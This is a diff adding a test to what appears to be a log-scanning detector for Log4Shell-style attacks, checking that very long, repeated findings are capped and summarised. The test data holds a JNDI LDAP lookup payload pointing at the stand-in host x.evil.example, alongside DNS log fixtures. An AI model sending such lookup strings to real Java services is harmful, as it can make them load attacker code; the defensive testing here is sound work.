@@ -210,6 +210,16 @@ test('too many attacks are told as they are, and it is said', () => {
   expect(notes[0]).toContain('3 attacks beyond the first 5,000 were told before')
 })
 
+test('of attacks that are long there are too many sooner', () => {
+  const long = access(`\${jndi:ldap://x.evil.example:1389/${'a'.repeat(50_000)}}`)
+
+  const { findings, notes } = joinedWith(long.repeat(400), {})
+
+  expect(findings.length).toBeGreaterThan(50)
+  expect(findings.length).toBeLessThan(200)
+  expect(notes[0]).toContain(`${400 - findings.length} attacks beyond the first ${findings.length} were told before`)
+})
+
 describe('an address that its name was answered with', () => {
   const answer = 'dnsmasq[812]: reply x.evil.example is 198.51.100.66\n'
   const zeek = `${JSON.stringify({ ts: 1_639_140_192, uid: 'C1', 'id.orig_h': '10.0.0.5', 'id.orig_p': 5, 'id.resp_h': '10.0.0.53', 'id.resp_p': 53, proto: 'udp', query: 'x.evil.example', qtype_name: 'A', answers: ['198.51.100.66'] })}\n`
